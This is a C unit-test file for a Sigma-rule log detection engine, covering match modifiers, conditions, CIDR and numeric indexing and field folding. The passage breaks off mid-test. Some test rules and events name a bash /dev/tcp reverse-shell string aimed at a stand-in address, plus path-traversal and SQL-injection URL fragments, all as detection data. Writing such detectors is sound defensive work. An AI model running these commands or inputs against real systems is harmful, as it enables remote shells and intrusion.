/* Detection engine (engine/detect.h): every modifier's semantics on events
 * built by hand, log source bucketing and profiles (each field scanned once,
 * other log sources' rules never evaluated), always-evaluated rules, CIDR and
 * numeric indexes, folding of fields that are views into the message, state
 * reuse, limits, the field map, the real SigmaHQ corpus and the shipped rule
 * pack. */
#define _GNU_SOURCE
#include <criterion/criterion.h>
#include <dirent.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "engine/detect.h"
#include "test_support.h"

static struct field_registry *reg;
static struct logsource_table *lt;
static struct hsdb_cache *cache;
static struct rule_set *rs;
static struct detect_state *st;
static hs_scratch_t *scratch;
static struct event_fields ef;
static struct diag d;
static char tmpdir[64];
static unsigned n_files;

/* event strings live here (no allocation per event) */
static char pool[1 << 16];
static size_t pool_used;

static void setup(void)
{
    reg = field_registry_new();
    lt = logsource_table_new();
    cache = hsdb_cache_new();
    diag_init(&d);
    cr_assert_eq(event_fields_init(&ef, 64, 4096), 0);
    snprintf(tmpdir, sizeof tmpdir, "/tmp/vigil-detect-XXXXXX");
    cr_assert_not_null(mkdtemp(tmpdir));
    n_files = 0;
}

static void unload(void)
{
    detect_state_free(st);
    st = NULL;
    if (scratch)
        hs_free_scratch(scratch);
    scratch = NULL;
    detect_free(rs);
    rs = NULL;
}

static void teardown(void)
{
    unload();
    for (unsigned i = 0; i < n_files; i++) {
        char p[128];
        snprintf(p, sizeof p, "%s/r%03u.yml", tmpdir, i);
        unlink(p);
    }
    char p[128];
    snprintf(p, sizeof p, "%s/fieldmap.yaml", tmpdir);
    unlink(p);
    rmdir(tmpdir);
    event_fields_free(&ef);
    diag_free(&d);
    hsdb_cache_free(cache);
    logsource_table_free(lt);
    field_registry_free(reg);
}

TestSuite(detect, .init = setup, .fini = teardown);

static const char *write_file(const char *name, const char *text)
{
    static char p[128];
    snprintf(p, sizeof p, "%s/%s", tmpdir, name);
    FILE *f = fopen(p, "w");
    cr_assert_not_null(f);
    fputs(text, f);
    fclose(f);
    return p;
}

/* Loads rule text (one file, documents separated by ---) with an optional
 * field map text and limits. */
static void load_ex(const char *yaml, const char *fieldmap, const struct detect_limits *lim)
{
    unload();
    char name[32];
    snprintf(name, sizeof name, "r%03u.yml", n_files++);
    char path[128];
    snprintf(path, sizeof path, "%s", write_file(name, yaml));
    char fm[128] = "";
    if (fieldmap)
        snprintf(fm, sizeof fm, "%s", write_file("fieldmap.yaml", fieldmap));
    const char *paths[] = {path};
    cr_assert_eq(detect_load(paths, 1, fieldmap ? fm : NULL, reg, lt, lim, cache, &rs, &d), 0);
    cr_assert_not_null(rs);
    cr_assert_eq(detect_alloc_scratch(rs, &scratch), 0);
    cr_assert_not_null(st = detect_state_new(rs));
}

static void load(const char *yaml)
{
    load_ex(yaml, NULL, NULL);
    if (d.errors)
        diag_print(&d, stderr);
    cr_assert_eq(d.errors, 0, "unexpected load error: %s", d.n ? d.entries[0].msg : "");
}

static const struct diag_entry *first(enum diag_severity sev)
{
    for (unsigned i = 0; i < d.n; i++)
        if (d.entries[i].severity == sev)
            return &d.entries[i];
    return NULL;
}

static uint16_t lsid(const char *product, const char *service, const char *category)
{
    struct logsource ls = {0};
    snprintf(ls.product, sizeof ls.product, "%s", product ? product : "");
    snprintf(ls.service, sizeof ls.service, "%s", service ? service : "");
    snprintf(ls.category, sizeof ls.category, "%s", category ? category : "");
    uint16_t id;
    cr_assert_eq(logsource_intern(lt, &ls, &id), 0);
    return id;
}

static void ev(uint16_t ls)
{
    event_fields_reset(&ef);
    ef.logsource = ls;
    pool_used = 0;
}

static field_id fid(const char *name)
{
    field_id id;
    cr_assert_eq(field_registry_intern(reg, name, &id), 0);
    return id;
}

static void s(const char *field, const char *val)
{
    size_t n = strlen(val);
    cr_assert_lt(pool_used + n, sizeof pool);
    memcpy(pool + pool_used, val, n);
    event_fields_add_str(&ef, fid(field), pool + pool_used, (uint32_t)n);
    pool_used += n;
}

static void i64(const char *field, int64_t v) { event_fields_add_int(&ef, fid(field), v); }

static void ip(const char *field, const char *text)
{
    struct vigil_ip a;
    cr_assert(field_parse_ip(text, (uint32_t)strlen(text), &a));
    event_fields_add_ip(&ef, fid(field), &a);
}

static uint32_t out[64];

static int eval(void)
{
    int n = detect_eval(rs, scratch, st, &ef, out, 64);
    cr_assert_geq(n, 0);
    return n;
}

static bool fires(unsigned rule)
{
    int n = eval();
    for (int i = 0; i < n && i < 64; i++)
        if (out[i] == rule)
            return true;
    return false;
}

/* One rule on {product: test}, detection body given. */
static void rule1(const char *detection)
{
    char y[8192];
    snprintf(y, sizeof y, "title: T\nid: 6a7b1c2d-0000-4000-8000-000000000001\nlogsource:\n  product: test\n"
                          "detection:\n%s",
             detection);
    load(y);
    cr_assert_eq(detect_rule_count(rs), 1);
}

static uint16_t T; /* the {product: test} log source */

static void ev_t(void)
{
    T = lsid("test", NULL, NULL);
    ev(T);
}

/* ---- plain values and modifiers ---- */

Test(detect, exact_caseless)
{
    rule1("  sel:\n    user.name: Root\n  condition: sel\n");
    ev_t();
    s("user.name", "root");
    cr_expect(fires(0));
    ev_t();
    s("user.name", "ROOT");
    cr_expect(fires(0));
    ev_t();
    s("user.name", "rootx");
    cr_expect_not(fires(0));
    ev_t();
    s("user.name", "xroot");
    cr_expect_not(fires(0));
    ev_t();
    cr_expect_not(fires(0), "absent field");
}

Test(detect, contains_startswith_endswith)
{
    load("title: C\nlogsource: {product: test}\ndetection: {s: {f|contains: mid}, condition: s}\n---\n"
         "title: S\nlogsource: {product: test}\ndetection: {s: {f|startswith: /adm}, condition: s}\n---\n"
         "title: E\nlogsource: {product: test}\ndetection: {s: {f|endswith: .PHP}, condition: s}\n");
    cr_assert_eq(detect_rule_count(rs), 3);
    ev_t();
    s("f", "/admin/aMIDb.php");
    cr_expect_eq(eval(), 3);
    ev_t();
    s("f", "x/admin/index.phpx");
    cr_expect_eq(eval(), 0);
    ev_t();
    s("f", "/ADM");
    cr_expect(fires(1));
    cr_expect_not(fires(0));
    ev_t();
    s("f", "mid");
    cr_expect(fires(0));
}

Test(detect, wildcards_and_escapes)
{
    load("title: W\nlogsource: {product: test}\ndetection: {s: {f: '/adm*/*.php'}, condition: s}\n---\n"
         "title: Q\nlogsource: {product: test}\ndetection: {s: {f: 'a?c'}, condition: s}\n---\n"
         "title: Esc\nlogsource: {product: test}\ndetection: {s: {f: 'a\\*c'}, condition: s}\n---\n"
         "title: Back\nlogsource: {product: test}\ndetection: {s: {f: 'C:\\Win\\'}, condition: s}\n");
    ev_t();
    s("f", "/admin/x/y.php");
    cr_expect(fires(0));
    ev_t();
    s("f", "/admin/x/y.phpx");
    cr_expect_not(fires(0));
    ev_t();
    s("f", "/adm\n/.php"); /* wildcards cross newlines */
    cr_expect(fires(0));
    ev_t();
    s("f", "abc");
    cr_expect(fires(1));
    cr_expect_not(fires(2));
    ev_t();
    s("f", "ac");
    cr_expect_not(fires(1));
    ev_t();
    s("f", "a*c");
    cr_expect(fires(2));
    cr_expect(fires(1));
    ev_t();
    s("f", "c:\\win\\");
    cr_expect(fires(3));
}

Test(detect, cased)
{
    rule1("  s:\n    f|contains|cased: Foo\n  condition: s\n");
    ev_t();
    s("f", "xFoox");
    cr_expect(fires(0));
    ev_t();
    s("f", "xfoox");
    cr_expect_not(fires(0));
}

/* Plain equality tests are matched through a value table, not Hyperscan:
 * same semantics (caseless unless cased, escapes resolved, any value of a
 * multi-valued field, integers and addresses as text). */
Test(detect, exact_values_table)
{
    load("title: Cased\nlogsource: {product: test}\ndetection: {s: {f|cased: Foo}, condition: s}\n---\n"
         "title: Esc\nlogsource: {product: test}\ndetection: {s: {f: 'a\\*b'}, condition: s}\n---\n"
         "title: Mixed\nlogsource: {product: test}\ndetection: {s: {f: [foo, 'x*y', 7]}, condition: s}\n---\n"
         "title: Ip\nlogsource: {product: test}\ndetection: {s: {ip: 10.1.2.3}, condition: s}\n");
    ev_t();
    s("f", "Foo");
    cr_expect(fires(0));
    cr_expect(fires(2));
    ev_t();
    s("f", "foo");
    cr_expect_not(fires(0), "cased");
    cr_expect(fires(2));
    ev_t();
    s("f", "a*b");
    cr_expect(fires(1));
    ev_t();
    s("f", "axb");
    cr_expect_not(fires(1));
    ev_t();
    s("f", "X--Y");
    cr_expect(fires(2), "wildcard value of the same list goes through Hyperscan");
    ev_t();
    i64("f", 7);
    cr_expect(fires(2));
    ev_t();
    s("f", "bar");
    s("f", "FOO");
    cr_expect(fires(2), "second value of the field");
    ev_t();
    ip("ip", "10.1.2.3");
    cr_expect(fires(3));
    ev_t();
    s("f", "fo");
    s("f", "fooo");
    cr_expect_eq(eval(), 0);
}

Test(detect, value_list_or_and_all)
{
    load("title: Any\nlogsource: {product: test}\ndetection: {s: {f|contains: [aa, bb]}, condition: s}\n---\n"
         "title: All\nlogsource: {product: test}\ndetection: {s: {f|contains|all: [aa, bb]}, condition: s}\n");
    ev_t();
    s("f", "xxaaxx");
    cr_expect(fires(0));
    cr_expect_not(fires(1));
    ev_t();
    s("f", "bb..aa");
    cr_expect(fires(0));
    cr_expect(fires(1));
}

Test(detect, map_is_and_list_of_maps_is_or)
{
    load("title: And\nlogsource: {product: test}\ndetection: {s: {a: x, b: y}, condition: s}\n---\n"
         "title: Or\nlogsource: {product: test}\ndetection: {s: [{a: x}, {b: y}], condition: s}\n");
    ev_t();
    s("a", "x");
    cr_expect_not(fires(0));
    cr_expect(fires(1));
    s("b", "y");
    cr_expect(fires(0));
}

Test(detect, re_case_sensitive_and_flags)
{
    load("title: R\nlogsource: {product: test}\ndetection: {s: {f|re: 'ab+c\\d'}, condition: s}\n---\n"
         "title: RI\nlogsource: {product: test}\ndetection: {s: {f|re|i: '^ab+c$'}, condition: s}\n---\n"
         "title: RS\nlogsource: {product: test}\ndetection: {s: {f|re|s: 'a.b'}, condition: s}\n---\n"
         "title: RM\nlogsource: {product: test}\ndetection: {s: {f|re|m: '^b$'}, condition: s}\n");
    ev_t();
    s("f", "xxabbbc7");
    cr_expect(fires(0));
    ev_t();
    s("f", "ABBC7");
    cr_expect_not(fires(0), "re is case-sensitive");
    ev_t();
    s("f", "ABBC");
    cr_expect(fires(1));
    ev_t();
    s("f", "a\nb");
    cr_expect(fires(2));
    cr_expect(fires(3));
    ev_t();
    s("f", "axb");
    cr_expect(fires(2));
    cr_expect_not(fires(3));
}

Test(detect, re_rejected_by_hyperscan)
{
    load_ex("title: Good\nlogsource: {product: test}\ndetection: {s: {f: x}, condition: s}\n---\n"
            "title: Back\nid: back-ref\nlogsource: {product: test}\ndetection: {s: {f|re: '(a)\\1'}, condition: s}\n"
            "---\n"
            "title: Look\nid: look\nlogsource: {product: test}\ndetection: {s: {f|re: 'a(?=b)'}, condition: s}\n",
            NULL, NULL);
    cr_expect_eq(detect_rule_count(rs), 1);
    cr_assert_eq(d.errors, 2);
    const struct diag_entry *e[2];
    for (unsigned i = 0, k = 0; i < d.n; i++)
        if (d.entries[i].severity == DIAG_ERROR && k < 2)
            e[k++] = &d.entries[i];
    cr_expect_str_eq(e[0]->what, "back-ref");
    cr_expect(strstr(e[0]->msg, "regular expression '(a)\\1' rejected by Hyperscan"), "%s", e[0]->msg);
    cr_expect_eq(e[0]->line, 8);
    cr_expect_str_eq(e[1]->what, "look");
    cr_expect(strstr(e[1]->msg, "rejected by Hyperscan"));
    const struct rule_info *good = detect_rule(rs, 0);
    cr_assert_not_null(good);
    cr_expect_str_eq(good->title, "Good");
}

Test(detect, keywords_on_message)
{
    rule1("  keywords:\n    - 'Failed password'\n    - 'Invalid user'\n  condition: keywords\n");
    ev_t();
    s("message", "Failed password for root from 1.2.3.4 port 22 ssh2");
    cr_expect(fires(0));
    ev_t();
    s("message", "invalid USER bob");
    cr_expect(fires(0));
    ev_t();
    s("message", "Accepted password for bob");
    cr_expect_not(fires(0));
}

Test(detect, keywords_all)
{
    rule1("  keywords:\n    '|all':\n      - 'bash -c'\n      - '/dev/tcp/'\n  condition: keywords\n");
    ev_t();
    s("message", "bash -c 'x >&/dev/tcp/1.2.3.4/80'");
    cr_expect(fires(0));
    ev_t();
    s("message", "bash -c ls");
    cr_expect_not(fires(0));
}

/* ---- numbers, cidr, null, exists ---- */

Test(detect, numeric_comparisons)
{
    load("title: GT\nlogsource: {product: test}\ndetection: {s: {n|gt: 400}, condition: s}\n---\n"
         "title: GTE\nlogsource: {product: test}\ndetection: {s: {n|gte: 400}, condition: s}\n---\n"
         "title: LT\nlogsource: {product: test}\ndetection: {s: {n|lt: 400}, condition: s}\n---\n"
         "title: LTE\nlogsource: {product: test}\ndetection: {s: {n|lte: '400'}, condition: s}\n");
    ev_t();
    i64("n", 400);
    int n = eval();
    cr_expect_eq(n, 2);
    cr_expect_eq(out[0], 1);
    cr_expect_eq(out[1], 3);
    ev_t();
    s("n", "404"); /* strings holding numbers compare as numbers */
    n = eval();
    cr_expect_eq(n, 2);
    cr_expect_eq(out[0], 0);
    cr_expect_eq(out[1], 1);
    ev_t();
    s("n", " 12 ");
    cr_expect(fires(2));
    ev_t();
    s("n", "4x4");
    cr_expect_eq(eval(), 0, "not a number");
    ev_t();
    cr_expect_eq(eval(), 0, "absent");
    ev_t();
    i64("n", -5);
    cr_expect(fires(2));
}

Test(detect, numeric_equality_on_strings_and_ints)
{
    rule1("  s:\n    sc-status: 404\n  condition: s\n");
    ev_t();
    s("sc-status", "404");
    cr_expect(fires(0));
    ev_t();
    i64("sc-status", 404);
    cr_expect(fires(0));
    ev_t();
    i64("sc-status", 4040);
    cr_expect_not(fires(0));
    ev_t();
    s("sc-status", "200");
    cr_expect_not(fires(0));
}

Test(detect, cidr_v4_v6)
{
    rule1("  s:\n    source.ip|cidr:\n      - 10.0.0.0/8\n      - '2001:db8::/32'\n      - 192.168.1.77/32\n"
          "  condition: s\n");
    ev_t();
    ip("source.ip", "10.200.3.4");
    cr_expect(fires(0));
    ev_t();
    ip("source.ip", "11.0.0.1");
    cr_expect_not(fires(0));
    ev_t();
    ip("source.ip", "2001:db8:1::5");
    cr_expect(fires(0));
    ev_t();
    ip("source.ip", "2001:db9::1");
    cr_expect_not(fires(0));
    ev_t();
    s("source.ip", "192.168.1.77"); /* an address the parser left as text */
    cr_expect(fires(0));
    ev_t();
    s("source.ip", "192.168.1.78");
    cr_expect_not(fires(0));
    ev_t();
    s("source.ip", "not an address");
    cr_expect_not(fires(0));
}

Test(detect, cidr_odd_prefix)
{
    rule1("  s:\n    a|cidr: 172.16.0.0/12\n  condition: s\n");
    ev_t();
    ip("a", "172.31.255.255");
    cr_expect(fires(0));
    ev_t();
    ip("a", "172.32.0.0");
    cr_expect_not(fires(0));
}

Test(detect, string_tests_on_ip_and_int_values)
{
    rule1("  s:\n    source.ip|startswith: '192.168.'\n  condition: s\n");
    ev_t();
    ip("source.ip", "192.168.4.4");
    cr_expect(fires(0));
    ev_t();
    ip("source.ip", "10.168.4.4");
    cr_expect_not(fires(0));
}

Test(detect, null_value)
{
    rule1("  s:\n    a: x\n    ref: null\n  condition: s\n");
    ev_t();
    s("a", "x");
    cr_expect(fires(0), "absent is null");
    ev_t();
    s("a", "x");
    s("ref", "");
    cr_expect(fires(0), "empty is null");
    ev_t();
    s("a", "x");
    s("ref", "http://x");
    cr_expect_not(fires(0));
}

Test(detect, exists_true_false)
{
    load("title: E\nlogsource: {product: test}\ndetection: {s: {a: x, b|exists: true}, condition: s}\n---\n"
         "title: NE\nlogsource: {product: test}\ndetection: {s: {a: x, b|exists: false}, condition: s}\n");
    ev_t();
    s("a", "x");
    cr_expect_not(fires(0));
    cr_expect(fires(1));
    s("b", "");
    cr_expect(fires(0));
    cr_expect_not(fires(1));
}

Test(detect, empty_and_star_values)
{
    load("title: Empty\nlogsource: {product: test}\ndetection: {s: {a: ''}, condition: s}\n---\n"
         "title: Star\nlogsource: {product: test}\ndetection: {s: {a: '*'}, condition: s}\n");
    ev_t();
    s("a", "");
    cr_expect(fires(0));
    cr_expect(fires(1));
    ev_t();
    s("a", "v");
    cr_expect_not(fires(0));
    cr_expect(fires(1));
    ev_t();
    cr_expect_eq(eval(), 0);
}

Test(detect, multi_valued_field)
{
    rule1("  s:\n    source.ip: 5.6.7.8\n  condition: s\n");
    ev_t();
    s("source.ip", "1.2.3.4");
    s("source.ip", "5.6.7.8");
    cr_expect(fires(0));
}

/* ---- conditions ---- */

Test(detect, condition_precedence)
{
    /* not a and b or c == ((not a) and b) or c */
    rule1("  a: {f: a}\n  b: {g: b}\n  c: {h: c}\n  condition: not a and b or c\n");
    ev_t();
    s("g", "b");
    cr_expect(fires(0));
    ev_t();
    s("f", "a");
    s("g", "b");
    cr_expect_not(fires(0));
    ev_t();
    s("f", "a");
    s("h", "c");
    cr_expect(fires(0));
}

Test(detect, one_of_all_of)
{
    load("title: One\nlogsource: {product: test}\n"
         "detection: {sel_a: {f: a}, sel_b: {g: b}, condition: 1 of sel_*}\n---\n"
         "title: All\nlogsource: {product: test}\n"
         "detection: {sel_a: {f: a}, sel_b: {g: b}, condition: all of them}\n");
    ev_t();
    s("f", "a");
    cr_expect(fires(0));
    cr_expect_not(fires(1));
    s("g", "b");
    cr_expect(fires(1));
}

/* Conditions against every combination of three tests: a rule that holds
 * when one of some bits is set is decided by those bits alone (no code run),
 * so a bit under a not, or one operand of an and, must never decide it.
 * Each rule's truth table is compared with C's. */
Test(detect, conditions_truth_tables)
{
    static const char *const text[] = {
        "a or b or c", "a and b", "a and not b", "not a or b", "a or (b and c)", "(a or b) and not c",
        "not (a or b)", "not (a and b) and c", "a and (b or c)", "(a and b) or (not a and c)", "1 of s*",
        "all of s*", "k or (a and not b)", "not k and c", "k or a or not c", "kall or b",
    };
    char y[8192];
    size_t o = 0;
    for (unsigned i = 0; i < sizeof text / sizeof text[0]; i++)
        o += (size_t)snprintf(y + o, sizeof y - o,
                              "%stitle: R%u\nlogsource: {product: test}\ndetection:\n  a: {f: a}\n  b: {g: b}\n"
                              "  c: {h: c}\n  s1: {f: a}\n  s2: {g|contains: b}\n  k: [kwa, kwb]\n"
                              "  kall: {message|contains|all: [kwa, kwb]}\n  condition: %s\n",
                              i ? "---\n" : "", i, text[i]);
    load(y);
    cr_assert_eq(detect_rule_count(rs), sizeof text / sizeof text[0]);
    for (unsigned m = 0; m < 16; m++) {
        bool a = m & 1, b = m & 2, c = m & 4, k = m & 8;
        ev_t();
        if (a)
            s("f", "a");
        if (b)
            s("g", "b");
        if (c)
            s("h", "c");
        s("message", k ? "x kwa y kwb" : "x y");
        const bool want[] = {a || b || c, a && b, a && !b, !a || b, a || (b && c), (a || b) && !c, !(a || b),
                             !(a && b) && c, a && (b || c), (a && b) || (!a && c), a || b, a && b, k || (a && !b),
                             !k && c, k || a || !c, k || b};
        int n = eval();
        bool got[sizeof want / sizeof want[0]] = {false};
        for (int i = 0; i < n && i < 64; i++)
            got[out[i]] = true;
        for (unsigned r = 0; r < sizeof want / sizeof want[0]; r++)
            cr_expect_eq(got[r], want[r], "%s with a=%d b=%d c=%d keywords=%d", text[r], a, b, c, k);
    }
}

/* ---- bucketing, candidates, state ---- */

Test(detect, logsource_bucketing)
{
    load("title: SSHD\nlogsource: {product: linux, service: sshd}\ndetection: {k: [boom], condition: k}\n---\n"
         "title: Linux\nlogsource: {product: linux}\ndetection: {k: [boom], condition: k}\n---\n"
         "title: Web\nlogsource: {category: webserver}\ndetection: {k: [boom], condition: k}\n---\n"
         "title: Any\nlogsource: {}\ndetection: {k: [boom], condition: k}\n");
    cr_assert_eq(detect_rule_count(rs), 4);
    ev(lsid("linux", "sshd", NULL));
    s("message", "boom");
    int n = eval();
    cr_expect_eq(n, 3);
    cr_expect_eq(out[0], 0);
    cr_expect_eq(out[1], 1);
    cr_expect_eq(out[2], 3);
    ev(lsid(NULL, NULL, "webserver"));
    s("message", "boom");
    n = eval();
    cr_expect_eq(n, 2);
    cr_expect_eq(out[0], 2);
    cr_expect_eq(out[1], 3);
    ev(0);
    s("message", "boom");
    n = eval();
    cr_expect_eq(n, 1, "unparsed events see only rules without a log source");
    cr_expect_eq(out[0], 3);
    /* a log source interned after the rules loaded takes the slow path */
    ev(lsid("linux", "cron", NULL));
    s("message", "boom");
    n = eval();
    cr_expect_eq(n, 2);
    cr_expect_eq(out[0], 1);
    cr_expect_eq(out[1], 3);
}

Test(detect, always_evaluated_rules)
{
    load("title: NotOnly\nlogsource: {product: test}\ndetection: {filter: {f: x}, condition: not filter}\n---\n"
         "title: NumOnly\nlogsource: {product: test}\ndetection: {s: {n|gt: 5}, condition: s}\n---\n"
         "title: NullOnly\nlogsource: {product: test}\ndetection: {s: {r: null}, condition: s}\n---\n"
         "title: NeedsBit\nlogsource: {product: test}\ndetection: {s: {n|gt: 5}, k: [y], condition: s and k}\n");
    ev_t();
    i64("n", 9);
    int n = eval();
    cr_expect_eq(n, 3);
    cr_expect_eq(out[0], 0);
    cr_expect_eq(out[1], 1);
    cr_expect_eq(out[2], 2);
    ev_t();
    s("f", "x");
    s("r", "v");
    cr_expect_eq(eval(), 0);
    ev_t();
    i64("n", 9);
    s("message", "y");
    cr_expect(fires(3));
}

Test(detect, state_reuse_no_stale_matches)
{
    load("title: A\nlogsource: {product: test}\ndetection: {k: [alpha], condition: k}\n---\n"
         "title: B\nlogsource: {product: test}\ndetection: {s: {f|contains|all: [one, two]}, condition: s}\n");
    ev_t();
    s("message", "alpha");
    s("f", "one");
    cr_expect_eq(eval(), 1);
    ev_t();
    s("message", "beta");
    s("f", "two");
    cr_expect_eq(eval(), 0, "bits of the previous event must be gone");
    ev_t();
    s("f", "two one");
    cr_expect_eq(eval(), 1);
    cr_expect_eq(out[0], 1);
}

Test(detect, shared_patterns_and_many_candidates)
{
    /* 40 rules with the same test share one pattern; all fire, in order */
    char *y = malloc(40 * 160);
    size_t o = 0;
    for (int i = 0; i < 40; i++)
        o += (size_t)sprintf(y + o, "%stitle: R%d\nlogsource: {product: test}\ndetection: {s: {m: GET}, condition: s}\n",
                             i ? "---\n" : "", i);
    load(y);
    free(y);
    ev_t();
    s("m", "get");
    uint32_t few[8];
    int n = detect_eval(rs, scratch, st, &ef, few, 8);
    cr_expect_eq(n, 40, "count includes what did not fit");
    for (int i = 0; i < 8; i++)
        cr_expect_eq(few[i], (uint32_t)i);
    ev_t();
    s("m", "post");
    cr_expect_eq(eval(), 0);
}

/* Rules wait for their rarest bit (trigger sets); the result is the same. */
Test(detect, trigger_sets)
{
    char *y = malloc(40 * 200);
    size_t o = 0;
    for (int i = 0; i < 30; i++)
        o += (size_t)sprintf(y + o,
                             "%stitle: U%d\nlogsource: {product: test}\n"
                             "detection: {s: {event.outcome: failure, user.name: u%d}, condition: s}\n",
                             i ? "---\n" : "", i, i);
    o += (size_t)sprintf(y + o, "---\ntitle: OrNot\nlogsource: {product: test}\n"
                                "detection: {a: {f: x}, b: {g: y}, condition: a or not b}\n");
    o += (size_t)sprintf(y + o, "---\ntitle: AndNot\nlogsource: {product: test}\n"
                                "detection: {a: {f: x}, b: {g: y}, condition: not b and a}\n");
    load(y);
    free(y);
    ev_t();
    s("event.outcome", "failure");
    s("user.name", "u7");
    s("g", "y");
    int n = eval();
    cr_expect_eq(n, 1);
    cr_expect_eq(out[0], 7);
    ev_t();
    s("user.name", "u7");
    s("g", "y");
    cr_expect_eq(eval(), 0);
    ev_t();
    s("event.outcome", "failure");
    s("g", "y");
    cr_expect_eq(eval(), 0);
    ev_t(); /* a or not b: true with nothing set */
    cr_expect(fires(30));
    cr_expect_not(fires(31));
    ev_t();
    s("f", "x");
    cr_expect(fires(30));
    cr_expect(fires(31));
    s("g", "y");
    cr_expect(fires(30));
    cr_expect_not(fires(31));
}

/* ---- profiles, indexes, folding (what an event costs) ---- */

static struct detect_eval_stats stats(void)
{
    struct detect_eval_stats es;
    detect_last_stats(st, &es);
    return es;
}

/* A field value that is a view into a string already in the pool (as a
 * parser leaves url.original inside the message). */
static const char *msg(const char *text)
{
    const char *p = pool + pool_used;
    s("message", text);
    return p;
}

static void view(const char *field, const char *base, const char *sub)
{
    const char *p = strstr(base, sub);
    cr_assert_not_null(p, "'%s' not in '%s'", sub, base);
    event_fields_add_str(&ef, fid(field), p, (uint32_t)strlen(sub));
}

/* The rules of every bucket that applies to an event's log source are one
 * profile: each field value is scanned once, whatever the number of
 * buckets; rules of other log sources are never evaluated, not even the
 * ones that must always run. */
Test(detect, profile_scans_each_field_once)
{
    load("title: SSHD\nlogsource: {product: linux, service: sshd}\n"
         "detection: {k: [boom], s: {user.name|contains: adm}, condition: k or s}\n---\n"
         "title: Linux\nlogsource: {product: linux}\ndetection: {k: [bang], condition: k}\n---\n"
         "title: Any\nlogsource: {}\ndetection: {k: [bam], s: {user.name|endswith: min}, condition: k and s}\n---\n"
         "title: Web\nlogsource: {category: webserver}\ndetection: {k: [boom], condition: k}\n---\n"
         "title: WebNot\nlogsource: {category: webserver}\ndetection: {f: {g: x}, condition: not f}\n");
    cr_assert_eq(detect_rule_count(rs), 5);
    ev(lsid("linux", "sshd", NULL));
    s("message", "boom bang bam");
    s("user.name", "admin");
    s("other.field", "boom"); /* tested by no rule of the profile: not even looked at */
    int n = eval();
    cr_expect_eq(n, 3);
    cr_expect_eq(out[0], 0);
    cr_expect_eq(out[1], 1);
    cr_expect_eq(out[2], 2);
    struct detect_eval_stats es = stats();
    cr_expect_eq(es.hs_scans, 2, "message and user.name once each, not once per bucket (%u)", es.hs_scans);
    cr_expect_eq(es.fields, 2);
    cr_expect_eq(es.rules, 3, "only sshd, linux and any rules are candidates (%u)", es.rules);

    ev(lsid(NULL, NULL, "webserver"));
    s("message", "boom bam");
    s("user.name", "admin");
    n = eval();
    cr_expect_eq(n, 3);
    cr_expect_eq(out[0], 2);
    cr_expect_eq(out[1], 3);
    cr_expect_eq(out[2], 4);
    es = stats();
    cr_expect_eq(es.hs_scans, 2);
    cr_expect_eq(es.rules, 3, "Any, Web and WebNot (always) (%u)", es.rules);

    ev(lsid(NULL, NULL, "firewall")); /* only the empty bucket applies */
    s("message", "boom bang");
    cr_expect_eq(eval(), 0);
    cr_expect_eq(stats().rules, 0);

    /* a log source interned after the rules loaded: same answers */
    ev(lsid("linux", "sshd2", NULL));
    s("message", "boom bang bam");
    s("user.name", "admin");
    n = eval();
    cr_expect_eq(n, 2);
    cr_expect_eq(out[0], 1);
    cr_expect_eq(out[1], 2);
    ev(lsid("linux", "sshd", "webserver")); /* two buckets no known log source combines */
    s("message", "boom");
    s("user.name", "x");
    n = eval();
    cr_expect_eq(n, 3);
    cr_expect_eq(out[0], 0);
    cr_expect_eq(out[1], 3);
    cr_expect_eq(out[2], 4);
}

/* CIDR and numeric tests are indexed per field: an event without the field
 * evaluates none of their rules, and one with it evaluates only the rules
 * whose network or threshold it matches. */
Test(detect, cidr_and_numeric_rules_indexed)
{
    char *y = malloc(700 * 200);
    size_t o = 0;
    for (int i = 0; i < 600; i++)
        o += (size_t)sprintf(y + o, "%stitle: N%d\nlogsource: {product: test}\n"
                                    "detection: {s: {source.ip|cidr: '10.%d.%d.0/24'}, condition: s}\n",
                             i ? "---\n" : "", i, i / 256, i % 256);
    for (int i = 0; i < 50; i++)
        o += (size_t)sprintf(y + o, "---\ntitle: P%d\nlogsource: {product: test}\n"
                                    "detection: {s: {destination.port|gt: %d}, condition: s}\n",
                             i, 1000 * i);
    o += (size_t)sprintf(y + o, "---\ntitle: Wide\nlogsource: {product: test}\n"
                                "detection: {s: {source.ip|cidr: '10.0.0.0/8'}, condition: s}\n");
    load(y);
    free(y);
    cr_assert_eq(detect_rule_count(rs), 651);
    ev_t();
    s("message", "nothing here");
    cr_expect_eq(eval(), 0);
    cr_expect_eq(stats().rules, 0, "no source.ip, no destination.port: no rule evaluated");
    ev_t();
    ip("source.ip", "10.1.7.9"); /* N263 and Wide */
    int n = eval();
    cr_expect_eq(n, 2);
    cr_expect_eq(out[0], 263);
    cr_expect_eq(out[1], 650);
    cr_expect_eq(stats().rules, 2);
    ev_t();
    s("source.ip", "10.2.88.1"); /* text: N600 does not exist; Wide */
    n = eval();
    cr_expect_eq(n, 1);
    cr_expect_eq(out[0], 650);
    ev_t();
    ip("source.ip", "11.1.7.9");
    cr_expect_eq(eval(), 0);
    cr_expect_eq(stats().rules, 0);
    ev_t();
    i64("destination.port", 3000); /* > 0, 1000, 2000 */
    n = eval();
    cr_expect_eq(n, 3);
    cr_expect_eq(out[0], 600);
    cr_expect_eq(out[2], 602);
    cr_expect_eq(stats().rules, 3);
    ev_t();
    s("destination.port", " 49001 "); /* all 50 */
    cr_expect_eq(eval(), 50);
    ev_t();
    i64("destination.port", 0);
    cr_expect_eq(eval(), 0);
}

/* Patterns of fields that are views into the message are matched by the
 * message's scan (folding): same answers as scanning the field itself, one
 * Hyperscan scan instead of two. */
#define URL_RULE(title, test) \
    "title: " title "\nlogsource: {product: test}\ndetection: {s: {url.original" test "}, condition: s}\n---\n"
#define URL_RULES                                                                          \
    "title: Kw\nlogsource: {product: test}\ndetection: {k: [zzkeyword], condition: k}\n---\n" \
    URL_RULE("Contains", "|contains: '../'")                                               \
    URL_RULE("Starts", "|startswith: '/adm'")                                              \
    URL_RULE("Ends", "|endswith: '.php'")                                                  \
    URL_RULE("Chain", "|contains: 'union/*/select'")

Test(detect, folded_fields_match_like_their_own_scan)
{
    load(URL_RULES URL_RULE("Wild", ": '/x?y'") URL_RULE("Cased", "|contains|cased: 'CMD'"));
    cr_assert_eq(detect_rule_count(rs), 7);
    static const char *const urls[] = {
        "/adm/../etc/passwd.php", "/index.html", "/a/union/x/select", "/a/select/x/union/select", "/x/y",
        "/xzy", "/xCMDx", "/xcmdx", "/admin.php", "/union/select", "/.", "/../", "/unionselect/union/select",
    };
    /* around each url, text that would match if the region were ignored */
